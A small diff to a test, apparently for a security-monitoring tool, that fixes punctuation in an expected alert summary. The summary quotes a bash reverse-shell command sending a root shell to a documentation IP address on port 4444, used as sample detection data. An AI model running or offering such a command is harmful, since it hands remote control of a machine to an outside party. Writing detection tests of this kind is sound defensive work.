@@ -45,7 +45,7 @@ test('an event of an agent becomes an alert that a browser sees at once, with it
   const detail = (await browser.call('getAlert', { id: row.id })).body
   assert.equal(
     detail.summary,
-    'bash (pid 4242, user root), started by sshd ran bash -i >& /dev/tcp/198.51.100.7/4444 0>&1.',
+    'bash (pid 4242, user root), started by sshd, ran bash -i >& /dev/tcp/198.51.100.7/4444 0>&1.',
   )
   assert.deepEqual(
     detail.processChain.map((process: { name: string; marked: boolean }) => [process.name, process.marked]),
